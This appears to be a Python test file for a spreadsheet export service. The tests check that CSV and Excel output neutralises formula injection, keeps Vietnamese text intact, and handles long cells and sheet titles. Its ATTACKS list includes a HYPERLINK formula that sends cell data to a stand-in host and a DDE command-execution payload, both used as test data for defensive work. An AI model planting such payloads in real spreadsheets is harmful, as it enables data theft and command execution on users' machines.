"""Tables for spreadsheets: nothing becomes a formula, nothing is lost, other programs read them."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from services.chassis.tables import FORMULA_SIGNS, LONGEST_CELL, Column, Table, csv_file, neutral, xlsx_file

AT = datetime(2026, 11, 24, 1, 30, tzinfo=UTC)
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?"&A1,"Xem")',
    "=cmd|' /C calc'!A0",
    '";=1+1;"',
    '","=1+1',
]


def table(*rows: Sequence[str], title: str = "Sổ") -> Table:
    """A table of two columns."""
    return Table(title, [Column("Tên", 30), Column("Ghi chú")], rows)


def read_csv(content: bytes) -> list[list[str]]:
    """As a spreadsheet splits it into cells."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[list[tuple[object, str]]]:
    """Value and type of every cell, as another program reads them; "s" is a text, "f" a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_is_a_formula(attack: str) -> None:
    """A text that begins with = + - @, tab or line end, blanks before it or not, is marked as text."""
    content = csv_file(table((attack, "x")))
    _, (cell, other) = read_csv(content)
    assert cell.lstrip(" \u00a0")[0] not in FORMULA_SIGNS
    assert cell.removeprefix("'") == attack
    assert other == "x"


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula(attack: str) -> None:
    """Every cell is a text, in a format that keeps it one when it is edited, and says what was typed."""
    content = xlsx_file(table((attack, "0912345678")), made_at=AT)
    _, (cell, phone) = read_xlsx(content)
    assert cell[1] == "s"
    assert unescape(str(cell[0])) == attack
    assert phone == ("0912345678", "s")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert {one.number_format for row in sheet.iter_rows() for one in row} == {"@"}
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_a_formula_in_a_heading_is_one_neither() -> None:
    """Headings may come from data too."""
    hostile = Table("=1+1", [Column("=1+1")], [("x",)])
    assert read_csv(csv_file(hostile))[0] == ["'=1+1"]
    assert read_xlsx(xlsx_file(hostile, made_at=AT))[0] == [("=1+1", "s")]


def test_excel_is_told_that_it_is_utf_8() -> None:
    """Without the mark Excel shows Vietnamese as rubbish; rows end as RFC 4180 wants."""
    content = csv_file(table(("Nguyễn Thị Đào", "")))
    assert content == '\ufeff"Tên","Ghi chú"\r\n"Nguyễn Thị Đào",""\r\n'.encode()


@given(st.lists(st.tuples(st.text(), st.text()), max_size=5))
def test_whatever_is_typed_stays_in_its_cell(rows: list[tuple[str, str]]) -> None:
    """Quotes, separators and line ends never move a text into another cell, nor make one a formula."""
    found = read_csv(csv_file(table(*rows)))
    assert [len(row) for row in found] == [2] * (len(rows) + 1)
    assert not [
        cell for row in found for cell in row if cell.lstrip(" \u00a0\ufeff")[:1] in FORMULA_SIGNS and cell
    ]
    assert len(read_xlsx(xlsx_file(table(*rows), made_at=AT))) == len(rows) + 1


def test_signs_that_no_file_can_carry_are_left_out() -> None:
    """Control signs and halves of pairs would make a workbook that Excel refuses to open."""
    rows = table(("Lê\x00 Văn\x1f Tám\ud800", "ok"))
    assert read_csv(csv_file(rows))[1] == ["Lê Văn Tám", "ok"]
    assert read_xlsx(xlsx_file(rows, made_at=AT))[1] == [("Lê Văn Tám", "s"), ("ok", "s")]


def test_a_text_too_long_for_a_cell_is_seen_to_be_cut() -> None:
    """Excel holds 32,767 characters in a cell; a longer text is not left out in silence."""
    ((_, _), (cell, _)) = read_xlsx(xlsx_file(table(("x" * 40_000, "")), made_at=AT))
    assert str(cell[0]) == "x" * (LONGEST_CELL - 1) + "…"


def test_a_row_of_another_length_is_a_mistake() -> None:
    """A cell under the wrong heading is worse than no file."""
    with pytest.raises(ValueError, match="a row of 1 cells in a table of 2 columns"):
        csv_file(table(("x",)))


def test_the_same_table_gives_the_same_workbook() -> None:
    """The only instant in it is the one that was given."""
    assert xlsx_file(table(("a", "b")), made_at=AT) == xlsx_file(table(("a", "b")), made_at=AT)


@pytest.mark.parametrize(
    "title", ["Sổ theo dõi hồ sơ 2026 của xã Thạnh Phú, quyển 01", "a/b:c*[d]?'", "x" * 300]
)
def test_any_title_makes_a_sheet(title: str) -> None:
    """Names of sheets are short and know fewer signs."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file(table(title=title), made_at=AT)))
    assert len(book.sheetnames[0]) <= 31
    assert book.properties.title == title


def test_an_ordinary_text_is_not_touched() -> None:
    """Only what could be a formula gets a mark."""
    for cell in ("", "Nguyễn Văn An", "000.17.22.H12-261124-0001", "a=b", "'x"):
        assert neutral(cell) == cell


def test_a_mark_stands_on_every_sheet() -> None:
    """On the screen as part of the sheet's name, on paper above it, and in the file's title."""
    content = xlsx_file(table(("a", "b")), made_at=AT, mark="MẪU")
    book = zipfile.ZipFile(io.BytesIO(content))
    assert 'name="MẪU ' in book.read("xl/workbook.xml").decode()
    assert "&amp;CMẪU " in book.read("xl/worksheets/sheet1.xml").decode()
    assert "<dc:title>MẪU " in book.read("docProps/core.xml").decode()


def test_a_column_of_numbers_holds_whole_ones_and_parts() -> None:
    """Points with a decimal are reckoned with as well; what is none stays a text."""
    content = xlsx_file(Table("x", [Column("n", number=True)], [("7",), ("1.5",), ("1.5.2",)]), made_at=AT)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [7, 1.5, "1.5.2"]
